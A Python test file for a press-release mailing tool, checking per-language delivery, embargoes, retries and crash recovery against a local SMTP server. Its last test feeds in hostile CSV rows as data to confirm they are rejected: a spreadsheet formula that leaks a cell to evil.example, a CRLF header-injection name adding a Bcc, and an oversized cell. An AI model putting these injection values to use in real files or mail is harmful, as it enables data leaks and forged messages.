"""`pressgen send` against a real SMTP server on 127.0.0.1 (aiosmtpd, `mailserver.py`): each subscriber
gets the published release once, in their language, with the PDF; refusals, dropped connections,
kill -9 and embargoes change nothing of that."""

from __future__ import annotations

import email
import signal
import subprocess
import sys
from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import default
from pathlib import Path

import pytest

from conftest import SLUG, Cli
from helpers import add_release, pdf_text
from mailserver import MailServer, Received, mail_server

TITLES = {
    "en": "Continuing NATO Cooperation and Strengthening Cyber Defences",
    "nl": "Voortzetting van de NAVO-samenwerking en versterking van de cyberverdediging",
    "ro": "Continuarea cooperării în cadrul NATO și consolidarea apărării cibernetice",
}
NOW = "2026-12-01T10:00:00+01:00"
MAIL = """
[mail]
from = "Press office <press@newsroom.example.org>"
smtp = "{url}"
rate = 1000
retry_delay = 0
timeout = 10
{extra}
[[mail.lists]]
name = "journalists"

[[mail.lists]]
name = "accredited"
embargo = true
"""
THREE = [
    ("jane@example.org", "Jane Doe", "en", "journalists"),
    ("joost@example.nl", "Joost de Vries", "nl", "journalists"),
    ("ioana@example.ro", "Ioana Popescu", "ro-RO", "journalists;accredited"),
]


def configure(project: Path, url: str, extra: str = "") -> None:
    """Give the project's configuration a [mail] table (in place of the one it has)."""
    path = project / "pressgen.toml"
    text = path.read_text(encoding="utf-8").split("\n[mail]\n")[0]
    path.write_text(text + MAIL.format(url=url, extra=extra), encoding="utf-8")


def subscribe(project: Path, rows: list[tuple[str, str, str, str]]) -> Path:
    """Write the subscriber list, as a spreadsheet exports it."""
    path = project / "distribution" / "subscribers.csv"
    path.parent.mkdir(exist_ok=True)
    lines = ["email,name,language,lists", *(",".join(f'"{cell}"' for cell in row) for row in rows)]
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    return path


def parts(received: Received) -> tuple[EmailMessage, str, str, bytes]:
    """Return a message with its plain text, its HTML and its PDF."""
    message = received.message
    text = message.get_body(("plain",))
    html = message.get_body(("html",))
    assert text is not None and html is not None
    pdfs = [part for part in message.iter_attachments() if part.get_content_type() == "application/pdf"]
    assert len(pdfs) == 1
    return message, text.get_content().replace("\r\n", "\n"), html.get_content(), pdfs[0].get_content()


def by_address(server: MailServer) -> dict[str, list[Received]]:
    found: dict[str, list[Received]] = {}
    for message in server.received:
        for address in message.recipients:
            found.setdefault(address, []).append(message)
    return found


@pytest.fixture
def server() -> Iterator[MailServer]:
    with mail_server() as running:
        yield running


@pytest.fixture
def mailing(project: Path, server: MailServer) -> Path:
    """The bundled project (its release published in en, nl and ro), with [mail] and three subscribers."""
    configure(project, server.url)
    subscribe(project, THREE)
    return project


def send(cli: Cli, project: Path, *args: str, now: str = NOW) -> tuple[int, str, str]:
    result = cli(project, "send", SLUG, "--list", "journalists", "--now", now, *args)
    return result.code, result.out, result.err


def test_each_subscriber_gets_the_release_once_in_their_language(mailing: Path, server: MailServer, cli: Cli) -> None:
    code, out, err = send(cli, mailing)
    assert (code, err) == (0, "")
    assert out.startswith("sent 3 e-mails (en 1, nl 1, ro 1); 0 already had this version (")
    messages = by_address(server)
    assert {address: len(found) for address, found in messages.items()} == {a: 1 for a, *_ in THREE}
    for (address, name, _lang, _), code_lang in zip(THREE, ("en", "nl", "ro"), strict=True):
        message, text, html, _ = parts(messages[address][0])
        assert message["Subject"] == TITLES[code_lang]
        assert message["To"] == f"{name} <{address}>"
        assert message["From"] == "Press office <press@newsroom.example.org>"
        assert message["Content-Language"] == code_lang
        assert message["Date"] == "Tue, 01 Dec 2026 10:00:00 +0100"
        assert message["List-Id"] == "<journalists.newsroom.example.org>"
        assert message["List-Unsubscribe"] == "<mailto:press@newsroom.example.org?subject=Unsubscribe%20journalists>"
        assert message["Message-ID"].endswith(f".{SLUG}@newsroom.example.org>")
        assert message["Reply-To"] is None  # the release names no contact
        assert TITLES[code_lang] in text and TITLES[code_lang] in html
        assert f'<html lang="{code_lang}">' in html
        page = f"https://newsroom.example.org/cyber-defence-pledge-2024/{code_lang}/{SLUG}/"
        assert f"<{page}>" in text and f"<{page}{SLUG}-{code_lang}.pdf>" in text
    ro_text = parts(messages["ioana@example.ro"][0])[1]
    assert "Citiți acest comunicat de presă pe site" in ro_text and "Comunicat de presă" in ro_text
    assert "PDF-ul este atașat acestui e-mail." in ro_text
    assert "ş" not in ro_text and "ţ" not in ro_text
    nl_text = parts(messages["joost@example.nl"][0])[1]
    assert "U ontvangt deze e-mail omdat u bent aangemeld voor de lijst “journalists”" in nl_text
    assert "U kunt zich afmelden met een e-mail aan press@newsroom.example.org." in nl_text

    code, out, _ = send(cli, mailing)
    assert code == 0 and out.startswith("sent 0 e-mails; 3 already had this version")
    assert len(server.received) == 3


def test_the_attachment_is_the_published_pdf_byte_for_byte(mailing: Path, server: MailServer, cli: Cli) -> None:
    assert send(cli, mailing)[0] == 0  # renders the PDFs into the build's cache
    assert cli(mailing, "build").code == 0
    for address, lang in (("jane@example.org", "en"), ("joost@example.nl", "nl"), ("ioana@example.ro", "ro")):
        message, _, _, pdf = parts(by_address(server)[address][0])
        published = mailing / "public" / lang / SLUG / f"{SLUG}-{lang}.pdf"
        assert pdf == published.read_bytes()
        attachment = next(message.iter_attachments())
        assert attachment.get_filename() == f"{SLUG}-{lang}.pdf"
    assert not [p for p in (mailing / "public").rglob("*") if p.suffix in (".csv", ".sqlite", ".eml")]


def test_a_pdf_rendered_by_send_is_the_one_the_build_publishes(project: Path, server: MailServer, cli: Cli) -> None:
    """With no cached copy (a fresh checkout), send renders the PDF itself: the build's bytes all the same."""
    assert cli(project, "build").code == 0
    published = (project / "public" / "nl" / SLUG / f"{SLUG}-nl.pdf").read_bytes()
    for cached in (project / ".pressgen-cache" / "pdf").iterdir():
        cached.unlink()
    configure(project, server.url)
    subscribe(project, [THREE[1]])
    assert send(cli, project)[0] == 0
    assert parts(server.received[0])[3] == published


def test_a_language_that_is_not_published_gets_the_source_saying_so_in_both(
    project: Path, server: MailServer, cli: Cli
) -> None:
    slug = "2024-06-01-ministers-meet"
    contacts = "contacts:\n  - name: Anna de Wit\n    role: Spokesperson\n    email: anna@example.org\n"
    add_release(project, slug, "Ministers meet", contacts)
    assert cli(project, "publish", slug, "--lang", "en", "--now", "2024-06-01T10:00:00+02:00").code == 0
    configure(project, server.url)
    subscribe(project, THREE)
    result = cli(project, "send", slug, "--list", "journalists", "--now", NOW)
    assert result.code == 0, result.err
    assert result.out.startswith(
        "sent 3 e-mails (en 3; in the source language for 1 nl, 1 ro (not published in theirs));"
    )
    messages = by_address(server)
    message, text, html, _ = parts(messages["joost@example.nl"][0])
    assert message["Subject"] == "Ministers meet"
    assert message["Content-Language"] == "en, nl"
    assert message["Reply-To"] == "Anna de Wit <anna@example.org>"
    assert "Dit persbericht is niet in het Roemeens verschenen" not in text
    assert "Dit persbericht is niet in het Nederlands verschenen. Dit is de versie in het Engels." in text
    assert "This press release has not been published in Dutch. This is the English version." in text
    assert '<p class="notice" lang="nl"' in html
    ro_text = parts(messages["ioana@example.ro"][0])[1]
    assert "nu a fost publicat în limba română. Aceasta este versiunea în limba engleză." in ro_text
    assert messages["jane@example.org"][0].message["Content-Language"] == "en"
    assert "not been published" not in parts(messages["jane@example.org"][0])[1]


def test_message_ids_are_stable_and_a_dry_run_sends_and_records_nothing(
    mailing: Path, server: MailServer, cli: Cli, tmp_path: Path
) -> None:
    out = tmp_path / "eml"
    code, printed, _ = send(cli, mailing, "--dry-run", str(out))
    assert code == 0 and printed.startswith(f"wrote 3 e-mails to {out}/ (en 1, nl 1, ro 1)")
    assert server.received == []
    written = {
        message["To"].addresses[0].addr_spec: message
        for path in sorted(out.glob("*.eml"))
        if isinstance(message := email.message_from_bytes(path.read_bytes(), policy=default), EmailMessage)
    }
    assert sorted(written) == sorted(a for a, *_ in THREE)
    assert send(cli, mailing)[0] == 0  # the dry run recorded nothing: everyone is sent to
    for received in server.received:
        assert received.message["Message-ID"] == written[received.recipients[0]]["Message-ID"]
    assert send(cli, mailing, "--dry-run", str(out))[1].startswith("wrote 0 e-mails")
    assert list(out.glob("*.eml")) == []


def test_before_the_embargo_only_an_embargo_list_gets_it_marked_so(
    project: Path, server: MailServer, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    slug = "2024-06-01-summit"
    add_release(project, slug, "Summit", "embargo: 2027-01-15T09:00:00+01:00\n")
    assert cli(project, "publish", slug, "--lang", "en", "--now", "2026-11-30T10:00:00+01:00").code == 0
    configure(project, server.url)
    subscribe(project, [("ioana@example.ro", "Ioana", "ro", "journalists;accredited"), THREE[0]])
    refused = cli(project, "send", slug, "--list", "journalists", "--now", NOW)
    assert refused.code == 1
    assert refused.err == (
        f"pressgen.toml: error: {slug} is under embargo until 15 January 2027, 09:00 (Central European Standard "
        "Time): only a list with embargo = true may receive it before then, and 'journalists' has none "
        "(nothing was sent)\n"
    )
    assert cli(project, "send", slug, "--list", "accredited", "--now", NOW).code == 0
    message, text, html, pdf = parts(server.wait_for(lambda got: len(got) == 1)[0])
    moment = "15 ianuarie 2027, ora 09:00 (ora Europei Centrale)"
    assert message["Subject"] == f"SUB EMBARGO până la {moment}: Summit"
    assert text.startswith(f"SUB EMBARGO până la {moment}\n")
    assert '<p class="banner embargo"' in html
    attachment = project / "embargoed.pdf"
    attachment.write_bytes(pdf)
    assert "Embargoed until 15 January 2027, 09:00" in " ".join(pdf_text(attachment).split())
    # Once the embargo lifts, the other list gets it; who had it already does not get it again.
    after = cli(project, "send", slug, "--list", "journalists", "--now", "2027-01-15T09:00:00+01:00")
    assert after.code == 0 and after.out.startswith("sent 1 e-mail (en 1"), after.out
    assert len(server.received) == 2
    assert server.received[1].recipients == ["jane@example.org"]
    assert "EMBARGO" not in server.received[1].message["Subject"]


def test_an_update_goes_to_who_had_the_release_and_the_release_to_who_did_not(
    mailing: Path, server: MailServer, cli: Cli
) -> None:
    assert send(cli, mailing)[0] == 0
    source = mailing / "releases" / SLUG / "release.md"
    source.write_text(source.read_text(encoding="utf-8").replace("Ms. Odobescu echoed", "Ms. Odobescu repeated"))
    note = "Corrected a quotation."
    assert cli(mailing, "publish", SLUG, "--lang", "en", "--note", note, "--now", "2026-12-02T10:00:00+01:00").code == 0
    subscribe(mailing, [*THREE, ("new@example.org", "New Reader", "en", "journalists")])
    code, out, _ = send(cli, mailing, now="2026-12-02T11:00:00+01:00")
    assert code == 0 and out.startswith("sent 2 e-mails (en 2; 1 update); 2 already had this version"), out
    update, first = server.received[3:]
    assert (update.recipients, first.recipients) == (["jane@example.org"], ["new@example.org"])
    message, text, _, _ = parts(update)
    original = by_address(server)["jane@example.org"][0].message
    assert message["Subject"] == f"Update: {TITLES['en']}"
    assert message["In-Reply-To"] == original["Message-ID"] and message["Message-ID"] != original["Message-ID"]
    assert "This is an update of the press release of 17 May 2024." in text
    assert f"Updated 2 December 2026: {note}" in " ".join(text.split())
    assert parts(first)[0]["Subject"] == TITLES["en"]  # the newcomer: the release, not an update
    assert "repeated" in parts(first)[1]
    # The Dutch and Romanian versions lag behind: their readers have the current version of theirs.
    assert len(by_address(server)["joost@example.nl"]) == 1


def test_a_temporary_refusal_is_retried_and_a_permanent_one_recorded(
    mailing: Path, server: MailServer, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(mailing)
    server.refuse("RCPT", "451 4.7.1 Greylisted, try again later", "jane@example.org", times=2)
    server.refuse("RCPT", "550 5.1.1 No such mailbox", "joost@example.nl", times=None)
    code, out, err = send(cli, mailing)
    assert code == 1
    assert (
        err
        == "distribution/subscribers.csv:3: error: joost@example.nl: refused by the server: 550 5.1.1 No such mailbox\n"
    )
    assert out.startswith("sent 2 e-mails (en 1, ro 1); 0 already had this version")
    assert server.by_recipient() == {"jane@example.org": 1, "ioana@example.ro": 1}
    assert server.handler.refusals["RCPT"] == 3
    # A refusal for good is not tried again; the others have their version.
    code, out, err = send(cli, mailing)
    assert (code, err) == (0, "")
    assert out.startswith("sent 0 e-mails; 2 already had this version, 1 refused before (see 'pressgen status")
    status = cli(mailing, "status", SLUG).out
    assert status.endswith(
        "e-mails:\nlist         lang  sent  failed  uncertain  pending\n"
        "journalists  en    1     0       0          0\n"
        "journalists  nl    0     1       0          0\n"
        "journalists  ro    1     0       0          0\n"
    )


def test_refusals_beyond_the_retries_stay_pending_for_the_next_run(
    project: Path, server: MailServer, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    configure(project, server.url, "retries = 2\n")
    subscribe(project, THREE)
    server.refuse("END", "452 4.3.1 Insufficient system storage", "joost@example.nl", times=3)
    code, _, err = send(cli, project)
    assert code == 1
    assert err == (
        "distribution/subscribers.csv:3: error: joost@example.nl: not sent yet, the server refused it for now: "
        "452 4.3.1 Insufficient system storage (run the same command again later)\n"
    )
    assert "joost@example.nl" not in server.by_recipient()
    assert "journalists  nl    0     0       0          1" in cli(project, "status", SLUG).out
    code, out, _ = send(cli, project)
    assert code == 0 and out.startswith("sent 1 e-mail (nl 1); 2 already had this version")
    assert server.by_recipient() == {address: 1 for address, *_ in THREE}


def test_a_connection_dropped_in_the_middle_of_a_message_sends_it_again(
    mailing: Path, server: MailServer, cli: Cli
) -> None:
    server.refuse("DATA", None, "joost@example.nl")  # 354, then the connection is closed
    code, _, err = send(cli, mailing)
    assert (code, err) == (0, "")
    assert server.by_recipient() == {address: 1 for address, *_ in THREE}
    assert server.handler.refusals["DATA"] == 1


def test_a_connection_dropped_after_the_end_is_uncertain_and_sent_again_only_on_request(
    mailing: Path, server: MailServer, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(mailing)
    server.refuse("END", None, "joost@example.nl")  # kept, but no reply: the client cannot know
    code, out, err = send(cli, mailing)
    warning = (
        "distribution/subscribers.csv:3: warning: joost@example.nl: outcome unknown (the connection was lost after "
        "the message was sent: Connection unexpectedly closed): 'pressgen send "
        f"{SLUG} --list journalists --retry-uncertain' sends it again, with the same Message-ID\n"
    )
    assert (code, err) == (0, warning)
    assert server.by_recipient() == {address: 1 for address, *_ in THREE}
    assert "journalists  nl    0     0       1          0" in cli(mailing, "status", SLUG).out
    code, out, err = send(cli, mailing)  # reported again, not sent again
    assert (code, err) == (0, warning) and out.startswith("sent 0 e-mails; 2 already had this version")
    assert len(server.received) == 3
    code, out, err = send(cli, mailing, "--retry-uncertain")
    assert (code, err) == (0, "") and out.startswith("sent 1 e-mail (nl 1)")
    first, again = by_address(server)["joost@example.nl"]
    assert first.message["Message-ID"] == again.message["Message-ID"]


def test_the_server_refusing_the_sender_stops_the_run(mailing: Path, server: MailServer, cli: Cli) -> None:
    server.refuse("MAIL", "553 5.7.1 Sender address rejected: not owned by user", times=None)
    code, out, err = send(cli, mailing)
    assert (code, out) == (1, "")
    assert err == (
        f"error: {server.url} refuses the sender press@newsroom.example.org: 553 5.7.1 Sender address rejected: "
        "not owned by user\n"
    )
    assert server.received == []
    assert "journalists  en    0     0       0          1" in cli(mailing, "status", SLUG).out


def test_send_refuses_what_the_record_does_not_publish(
    mailing: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(mailing)
    add_release(mailing, "2024-06-01-draft", "Draft")
    result = cli(mailing, "send", "2024-06-01-draft", "--list", "journalists")
    assert (result.code, result.err) == (
        1,
        "error: 2024-06-01-draft is not published: only what the record holds is sent ('pressgen publish' it first)\n",
    )
    result = cli(mailing, "send", "2024-05-17-nato-cyber-defence-pledge-conferenc", "--list", "journalists")
    assert result.code == 2 and f"(did you mean '{SLUG}'?)" in result.err
    result = cli(mailing, "send", SLUG, "--list", "journalist")
    assert result.code == 2 and "--list journalist: no such list in [mail] (did you mean 'journalists'?)" in result.err
    assert cli(mailing, "withdraw", SLUG, "--reason", "Published in error.", "--now", NOW).code == 0
    result = cli(mailing, "send", SLUG, "--list", "journalists")
    assert (result.code, result.err) == (
        1,
        f"published/{SLUG}/record.toml: error: {SLUG} was withdrawn on 2026-12-01: a withdrawn release is not sent\n",
    )


def test_kill_9_at_any_moment_then_again_sends_to_everyone_once(project: Path, server: MailServer) -> None:
    """A run killed with SIGKILL while it sends, run again: nobody twice, nobody missed, but for a message
    whose outcome the log cannot know (killed between its end and the reply), which is reported and sent
    again only on request, with the same Message-ID."""
    configure(project, server.url)
    text = (project / "pressgen.toml").read_text(encoding="utf-8").replace("rate = 1000", "rate = 40")
    (project / "pressgen.toml").write_text(text, encoding="utf-8")
    rows = [(f"reader{n}@example.org", f"Reader {n}", ("en", "nl", "ro")[n % 3], "journalists") for n in range(60)]
    subscribe(project, rows)
    command = [sys.executable, "-m", "pressgen", "-C", str(project), "send", SLUG, "--list", "journalists"]
    for kill_after in (5, 23, 41):
        process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

        def far_enough(got: list[Received], n: int = kill_after, running: subprocess.Popen[bytes] = process) -> bool:
            return len(got) >= n or running.poll() is not None

        server.wait_for(far_enough, timeout=180)
        process.send_signal(signal.SIGKILL)
        _, err = process.communicate()
        assert process.returncode in (-signal.SIGKILL, 0), err.decode()
    finished = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert finished.returncode == 0, finished.stderr
    counts = server.by_recipient()
    unknown = {line.split(": ")[2] for line in finished.stderr.splitlines() if "outcome unknown" in line}
    assert len(unknown) <= 3
    assert all(counts[address] == 1 for address, *_ in rows if address not in unknown), counts
    assert all(counts[address] <= 1 for address in unknown)
    again = subprocess.run([*command, "--retry-uncertain"], capture_output=True, text=True, timeout=120)
    assert again.returncode == 0 and again.stderr == "", again.stderr
    counts = server.by_recipient()
    assert all(counts[address] == 1 for address, *_ in rows if address not in unknown)
    for address in unknown:  # sent again: the same message, which a reader's mail client shows once
        assert 1 <= counts[address] <= 2
        assert len({m.message["Message-ID"] for m in by_address(server)[address]}) == 1


def test_hostile_rows_are_errors_before_anything_is_sent(
    project: Path, server: MailServer, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    configure(project, server.url)
    path = project / "distribution" / "subscribers.csv"
    path.parent.mkdir()
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    rows = [
        "email;name;language;lists",  # a Dutch spreadsheet's CSV: semicolons
        f'formula@example.org;"{formula.replace(chr(34), chr(34) * 2)}";nl;journalists',
        '"jane@example.org";"Jane\r\nBcc: everyone@example.org";en;journalists',
        "jane@example.org;Jane;en;journalists",
        f"big@example.org;{'x' * 10_000_000};en;journalists",
        "not-an-address;Nobody;en;journalists",
        "de@example.de;Hans;de;journalists",
        "list@example.org;Lis;en;journalistes",
        "jane@EXAMPLE.org;Jane again;en;journalists",
        "nada@example.org;Nada;;",  # in no list: unsubscribed, not an error
    ]
    path.write_bytes("\r\n".join(rows).replace("\\r\\n", "\r\n").encode() + b"\r\n")
    result = cli(project, "send", SLUG, "--list", "journalists", "--now", NOW)
    assert result.code == 1
    assert result.err.splitlines() == [
        "distribution/subscribers.csv:3: error: the name cell holds a line break, which no name has (a forged header?)",
        "distribution/subscribers.csv:6: error: the line is longer than 64 KB: a cell has at most 1000 characters",
        "distribution/subscribers.csv:7: error: 'not-an-address' is not an e-mail address: An email address must have "
        "an @-sign.",
        "distribution/subscribers.csv:8: error: unknown language 'de': the languages are en, nl, ro",
        "distribution/subscribers.csv:9: error: unknown list 'journalistes' (did you mean 'journalists'?): the lists "
        "are journalists, accredited",
        "distribution/subscribers.csv:10: error: 'jane@example.org' is listed twice: also on line 5",
    ]
    assert server.received == []
    assert cli(project, "status", SLUG).out.endswith("e-mails: none sent yet\n")
    # Only the formula is left: it is text, encoded in the To header; no header can be forged.
    path.write_bytes(("\r\n".join([rows[0], rows[1]]) + "\r\n").encode())
    assert cli(project, "send", SLUG, "--list", "journalists", "--now", NOW).code == 0
    received = server.wait_for(lambda got: len(got) == 1)[0]
    assert received.message["To"].addresses[0].display_name == formula
    head = received.data.split(b"\r\n\r\n", 1)[0]
    assert [line for line in head.split(b"\r\n") if line.lower().startswith((b"bcc", b"cc"))] == []
